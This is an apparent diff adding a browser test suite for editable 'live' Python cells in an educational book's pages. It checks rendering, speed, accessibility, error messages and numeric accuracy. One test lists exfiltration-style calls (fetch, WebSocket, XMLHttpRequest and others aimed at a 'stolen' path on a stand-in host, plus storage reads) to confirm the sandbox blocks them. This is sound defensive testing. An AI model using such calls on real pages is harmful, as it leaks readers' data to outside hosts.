@@ -1,0 +1,259 @@
+"""Live cells in the built pages: the reader's Python runs, is stopped, and stays in the page."""
+
+import ast
+import http.server
+import json
+import re
+import threading
+
+import pytest
+from playwright.sync_api import Locator, Page, expect
+
+from fedlab_edu.live import fedex
+from tests.book.conftest import HTML, ROOT, pages, visit
+from tests.book.test_pages import CONTRASTS
+
+pytestmark = pytest.mark.book
+
+CELLS = pages(holding="```{live} ")
+FEDEX = "ch04_fedex"
+EDITS = {  # typical edits, and what the cell says
+    "a typo": ("return g", "retrun g", r"line \d+: SyntaxError"),
+    "an indent": ("    return g", "  return g", r"line \d+: IndentationError"),
+    "a wrong name": ("total = sum(size)", "total = sum(sizes)", r"line 2: NameError.*sizes"),
+    "a division by zero": ("* total)", "* 0 * total)", r"line \d+: ZeroDivisionError"),
+    "an index": ("g[j] +=", "g[j + 99] +=", r"line \d+: IndexError"),
+    "a forgotten return": ("return g", "g", r"^after FedEx's gradient had run: TypeError"),
+    "another name": ("def gradient", "def slope", r"NameError: the cell must define .* gradient"),
+    "an endless loop": ("return g", "while True: pass", r"^stopped after 3 seconds.*loop"),
+    "no end of calls": ("return g", "return gradient(theta, row, score, size, baseline)",
+                        r"line \d+: RuntimeError: the function calls itself"),
+    "a better rule": ("return g", "return [x / 2 for x in g]", "^$"),
+}  # fmt: skip
+
+
+def run(cell: Locator, button: str = "Run") -> str:
+    """Press a button, wait for the end of the run, and return what the cell says."""
+    before = int(cell.get_attribute("data-runs") or 0)
+    cell.get_by_role("button", name=button).click()
+    return after(cell, before + 1)
+
+
+def after(cell: Locator, runs: int) -> str:
+    expect(cell).to_have_attribute("data-runs", str(runs), timeout=20_000)
+    return cell.locator(".live-status").inner_text()
+
+
+def replace(cell: Locator, old: str, new: str) -> None:
+    area = cell.get_by_role("textbox")
+    text = area.input_value()
+    assert old in text
+    area.fill(text.replace(old, new))
+
+
+def drawn(cell: Locator) -> tuple[str, str]:
+    picture, printed = cell.locator(".live-picture"), cell.locator(".live-printed")
+    return picture.inner_html(), printed.inner_text().strip()
+
+
+@pytest.fixture
+def cell(browser, site):
+    """The cell of chapter 4 in a new page."""
+    seen = visit(browser, f"{site}/{FEDEX}.html")
+    yield seen.page.locator(".live-cell").first
+    assert seen.errors == []
+    seen.page.close()
+
+
+@pytest.fixture
+def other_host():
+    """The address of a server, and what it has been asked for."""
+    asked = []
+
+    class Listener(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_response(404)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}", asked
+        server.shutdown()
+
+
+@CELLS
+def test_the_browser_draws_what_the_build_drew_and_each_control_changes_it(either):
+    _, seen = either
+    cells = seen.page.locator(".live-cell:has(.live-picture svg):has(textarea)")
+    for cell in cells.all():
+        before = drawn(cell)
+        assert run(cell) == ""
+        assert drawn(cell) == before
+        for control in cell.locator("input[type=range], select").all():
+            runs, before = int(cell.get_attribute("data-runs")), drawn(cell)
+            if control.evaluate("e => e.tagName") == "SELECT":
+                control.select_option(index=1)
+            else:
+                last = control.evaluate("e => e.value === e.max")
+                control.press("Home" if last else "End")
+            assert after(cell, runs + 1) == ""
+            assert drawn(cell) != before
+        run(cell, "Reset")
+
+
+@CELLS
+def test_a_first_run_takes_less_than_a_second_and_a_step_less_than_a_fifth(light: Page):
+    for cell in light.locator(".live-cell:has(.live-picture svg):has(textarea)").all():
+        run(cell)
+        first = int(cell.get_attribute("data-ms"))
+        best = []
+        for _ in range(3):  # on a busy machine one of them gets through
+            run(cell)
+            best.append(int(cell.get_attribute("data-ms")))
+        assert (first < 1000, min(best) < 200) == (True, True), (first, best)
+
+
+@CELLS
+def test_without_javascript_a_page_shows_code_and_picture(browser, site, name):
+    page = browser.new_page(java_script_enabled=False)
+    page.goto(f"{site}/{name}.html")
+    for cell in page.locator(".live-cell").all():
+        shown = cell.locator(".live-picture svg, pre")
+        expect(shown).not_to_have_count(0)
+        assert all(one.is_visible() for one in shown.all() if one.inner_html())
+    page.close()
+
+
+@CELLS
+def test_cells_weigh_less_than_300_kilobytes_beside_the_engine(name):
+    html = (HTML / f"{name}.html").read_text(encoding="utf-8")
+    cells = re.findall(r'class="live-data">(.*?)</script>', html, re.S)
+    data = {one["data"] for one in map(json.loads, cells) if one["data"]}
+    files = [HTML / "_static/live" / file for file in ("page.js", "page.css")]
+    files += [
+        HTML / "_static/live" / f"{one.split('/')[-1].removesuffix('.json')}.js" for one in data
+    ]
+    pictures = re.findall(r'<div class="live-picture">.*?</div>', html, re.S)
+    assert sum(file.stat().st_size for file in files) + len("".join(cells + pictures)) < 300_000
+
+
+@CELLS
+def test_text_in_live_cells_stands_out_in_light_and_dark(scheme):
+    _, page = scheme
+    texts = (
+        ".live-picture text, .live-cell label, .live-cell output, .live-cell select, .live-printed"
+    )
+    ratios = page.evaluate(
+        CONTRASTS, f"{texts}, .live-editor .highlight span, .live-bar button:enabled"
+    )
+    assert ratios
+    assert min(ratios) >= 4.5
+
+
+@CELLS
+def test_on_a_phone_a_live_cell_is_no_wider_than_the_page_and_its_text_is_readable(phone: Page):
+    for cell in phone.locator(".live-cell").all():
+        box = cell.bounding_box()
+        assert box["x"] >= 0
+        assert box["x"] + box["width"] <= 390
+    sizes = phone.locator(".live-picture text").evaluate_all(
+        "es => es.map(e => parseFloat(getComputedStyle(e).fontSize) * e.getScreenCTM().a)"
+    )
+    assert [size for size in sizes if size < 7] == []
+
+
+def test_the_engine_is_loaded_when_a_cell_comes_into_view_and_once(browser, site):
+    seen = visit(browser, f"{site}/{FEDEX}.html")
+    engines = lambda: [url for url in seen.requests if url.endswith("engine.js")]  # noqa: E731
+    assert engines() == []
+    run(seen.page.locator(".live-cell").first)
+    run(seen.page.locator(".live-cell").first)
+    assert len(engines()) == 1
+    seen.page.close()
+
+
+@pytest.mark.parametrize("kind", EDITS)
+def test_a_typical_edit_gets_an_answer_that_helps(cell, kind):
+    old, new, said = EDITS[kind]
+    before = drawn(cell)
+    replace(cell, old, new)
+    assert re.search(said, run(cell))
+    if said == "^$":
+        assert drawn(cell) != before
+    assert run(cell, "Reset") == ""
+    assert drawn(cell) == before
+
+
+def test_while_a_loop_runs_the_page_answers(cell):
+    replace(cell, "return g", "while True: pass")
+    cell.get_by_role("button", name="Run").click()
+    expect(cell).to_have_attribute("aria-busy", "true")
+    assert cell.evaluate("() => 1 + 1") == 2
+    assert "loop" in after(cell, 1)
+
+
+def test_numbers_in_the_browser_equal_those_of_the_build_to_1e_9(cell):
+    replace(cell, "    return g", "    print(g)\n    return g")
+    assert run(cell) == ""
+    lines = cell.locator(".live-printed").inner_text().splitlines()
+    seen = [ast.literal_eval(line) for line in lines if line.startswith("[")]
+    record = json.loads((ROOT / "book/records/live-fedex.json").read_text())
+    wanted = []
+    given = fedex.rules.gradient
+    keep = lambda *args: wanted.append(given(*args)) or wanted[-1]  # noqa: E731
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr(fedex.rules, "gradient", keep)
+        fedex.replay(record, "constant", 1, 0.9, 1)
+    assert len(seen) == len(wanted) == 60
+    for got, want in zip(seen, wanted, strict=True):
+        assert got == pytest.approx(want, rel=1e-9, abs=1e-12)
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "js.self.fetch('SITE/stolen')",
+        "js.self.importScripts('SITE/stolen')",
+        "js.WebSocket.new('ws://HOST/stolen')",
+        "js.EventSource.new('SITE/stolen')",
+        "js.Worker.new('SITE/stolen')",
+        "js.self.eval('import(\"SITE/stolen\")')",
+        "(lambda x: (x.open('GET', 'SITE/stolen', False), x.send()))(js.XMLHttpRequest.new())",
+        "js.indexedDB.open('x')",
+        "js.caches.open('x')",
+        "js.localStorage.getItem('x')",
+        "js.document.title",
+    ],
+)
+def test_the_readers_code_reaches_neither_network_nor_storage_nor_page(
+    browser, site, other_host, attempt
+):
+    address, asked = other_host
+    seen = visit(browser, f"{site}/{FEDEX}.html")
+    cell = seen.page.locator(".live-cell").first
+    attempt = attempt.replace("SITE", address).replace("HOST", address.partition("//")[2])
+    replace(cell, "return g", f"import js\n    print('got', {attempt})\n    return g")
+    said = run(cell)
+    assert asked == []
+    seen.page.evaluate("url => fetch(url).catch(() => 0)", f"{address}/heard")
+    assert asked == ["/heard"]
+    if "stolen" not in attempt:
+        assert re.search("Error|denied", said)
+    seen.page.close()
+
+
+def test_keys_indent_run_and_leave_the_editor(cell):
+    area, page = cell.get_by_role("textbox"), cell.page
+    area.fill("")
+    page.keyboard.type("def f(x):\nif x:\nreturn 1")
+    assert area.input_value() == "def f(x):\n    if x:\n        return 1"
+    page.keyboard.press("Control+Enter")
+    assert "must define" in after(cell, 1)
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement.textContent") == "Run"
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement.textContent") == "Reset"
